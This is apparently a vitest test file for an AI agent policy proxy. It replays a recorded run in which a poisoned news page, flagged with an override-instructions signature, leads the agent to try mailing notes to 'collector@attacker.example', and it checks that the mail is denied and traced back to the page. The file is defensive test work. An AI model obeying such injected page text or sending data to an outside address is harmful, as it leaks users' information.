/** A recorded run in which a page asks for a mail: the log alone says which page it was, and what would allow the mail. */
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, test } from "vitest";
import { MAIL_POLICY } from "../evidence/poisoned-run.js";
import { fixture, ProxyProcess, testFolder, type LoggedEvent } from "./proxy-process.js";
import { agentk, asked } from "./watch.js";

const ADDRESS = "collector@attacker.example";
const PROMPT = { "agentk/prompt": "Please read https://news.example/today and tell me what is new" };

interface MailRun {
  readonly proxy: ProxyProcess;
  readonly outbox: string;
  readonly read: LoggedEvent;
  readonly page: LoggedEvent;
  readonly mail: LoggedEvent;
}

/** The agent reads the page, as the user wants, and obeys it. */
async function obey(name: string, policy: string): Promise<MailRun> {
  const cwd = testFolder(name);
  const outbox = join(cwd, "outbox");
  const file = join(cwd, "mail.toml");
  writeFileSync(file, policy);
  const server = [process.execPath, fixture("servers/mailbox.mjs"), outbox];
  const proxy = new ProxyProcess({ cwd, server, flags: ["--policy", file, "--server-id", "web"] });
  await proxy.handshake();
  // The log shows the names of arguments that the server itself has listed.
  await proxy.request("tools/list");
  const url = "https://news.example/today";
  await proxy.request("tools/call", { name: "read_page", arguments: { url }, _meta: PROMPT });
  await proxy.call("send_mail", { to: ADDRESS, body: "The notes, as you have asked me" });
  await proxy.close();
  const events = proxy.events();
  const [read, mail] = events.filter(({ type, value }) => type === "syscall" && value.kind === "tool.invoke");
  const page = events.find(({ type, value }) => type === "page" && value.call === read?.value.call);
  if (read === undefined || mail === undefined || page === undefined) throw new Error("the run did not go as planned");
  return { proxy, outbox, read, page, mail };
}

const idOf = ({ seq, type }: LoggedEvent): string => `${type === "page" ? "p" : "c"}${String(seq)}`;

let run: MailRun;
beforeAll(async () => {
  run = await obey("explain", MAIL_POLICY);
});

describe("the denied mail", () => {
  test("was denied and not sent", () => {
    expect(run.mail.value.decision).toMatchObject({ verdict: "deny", rule: "default-deny" });
    expect(existsSync(run.outbox)).toBe(false);
  });

  test("trace-inspect --why names the poisoned page under the address, and how it came", async () => {
    const { proxy, mail, page, read } = run;
    const { code, stdout } = await asked(proxy.cwd, ["trace-inspect", "--why", String(mail.seq)]);
    expect(code).toBe(0);
    const lines = stdout.split("\n");
    const at = lines.findIndex((line) => line.includes("─ /to  contained  from "));
    expect(lines[at + 1]).toContain(`└─ ${idOf(page)}  web/read_page tools/call#result  /content/0/text`);
    expect(lines[at + 1]).toContain("signs override-instructions@1");
    expect(lines[at + 2]).toContain(`└─ ${idOf(read)}  tool.invoke web/read_page  allow:reading`);
    expect(lines[at + 3]).toContain("└─ /url  contained  from trusted, user");
    expect(lines[at + 4]).toContain("user user/words");
    expect(stdout).toContain("composed: may come from any of");
    expect(stdout).not.toMatch(/collector|attacker|news\.example/);
    expect(stdout).not.toContain("\u001b");
  });

  test("policy explain says what would allow it, and the run goes so with the lines that it gives", async () => {
    const { proxy, mail, page } = run;
    const { code, stdout } = await asked(proxy.cwd, ["policy", "explain", `latest#${idOf(mail)}`, "--json"]);
    expect(code).toBe(0);
    const { line, proof, decision, decided_again } = JSON.parse(stdout) as {
      line: { children: { path: string; children: { page?: string }[] }[] };
      proof: { adds: string[]; decision: string };
      decision: string;
      decided_again: string;
    };
    expect([decision, decided_again]).toEqual(["deny:default-deny", "deny:default-deny"]);
    expect(line.children.find(({ path }) => path === "/to")?.children[0]?.page).toBe(idOf(page));
    const granted = await obey("explain-granted", `${MAIL_POLICY}\n${proof.adds.join("\n")}\n`);
    expect(granted.mail.value.decision).toMatchObject({ verdict: "allow", rule: "mail-granted" });
    expect(proof.decision).toBe("allow:mail-granted");
    expect(readFileSync(granted.outbox, "utf8")).toContain(ADDRESS);
  });

  test("every decision of the run is made again from the log alone", async () => {
    const { proxy } = run;
    for (const event of proxy.events().filter(({ type }) => type === "syscall" || type === "page")) {
      const { code, stdout } = await asked(proxy.cwd, ["policy", "explain", `latest#${idOf(event)}`, "--json"]);
      const { decision, decided_again } = JSON.parse(stdout) as Record<string, unknown>;
      expect([code, decided_again]).toEqual([0, decision]);
    }
  });
});

describe("exit statuses", () => {
  test("1 for what is not there, 2 for a log that is broken up to the line, 0 for one broken behind it", async () => {
    const { proxy, mail, page, read } = run;
    const folder = testFolder("explain-statuses");
    const lines = readFileSync(proxy.log, "utf8").split("\n");
    // Not named as a log: what is damaged on purpose is not replayed after the tests.
    writeFileSync(join(folder, "bad"), lines.map((line, seq) => (seq === page.seq ? `${line} ` : line)).join("\n"));
    const statuses = async (log: string, line: string): Promise<readonly number[]> => [
      (await asked(folder, ["policy", "explain", `${log}#${line}`])).code,
      (await asked(folder, ["trace-inspect", log, "--why", line])).code,
    ];
    expect(await statuses("bad", idOf(mail))).toEqual([2, 2]);
    expect(await statuses("bad", String(read.seq))).toEqual([0, 0]);
    expect(await statuses(proxy.log, idOf(mail))).toEqual([0, 0]);
    expect(await statuses(proxy.log, "c9999")).toEqual([1, 1]);
    expect(await statuses(proxy.log, "0")).toEqual([1, 1]);
    expect(await statuses("none", "c1")).toEqual([1, 1]);
  });

  test("the help of both lists them", async () => {
    for (const command of [["policy", "explain"], ["trace-inspect"]]) {
      const { stdout } = await agentk(run.proxy.cwd, [...command, "--help"]);
      expect(stdout).toMatch(/Exit status: 0 .*1 .*2 /s);
    }
  });
});
